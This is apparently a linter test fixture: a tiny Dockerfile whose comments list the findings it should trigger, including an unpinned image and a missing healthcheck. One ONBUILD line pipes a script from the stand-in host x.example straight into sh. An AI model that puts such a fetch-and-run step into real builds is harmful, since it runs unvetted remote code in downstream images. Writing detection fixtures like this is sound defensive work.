# expect: image-not-pinned missing-healthcheck
FROM 127.0.0.1:5000/base/debian:12
# expect: curl-pipe-shell onbuild-trigger
ONBUILD RUN curl -fsSL https://x.example/i.sh | sh
USER 1000
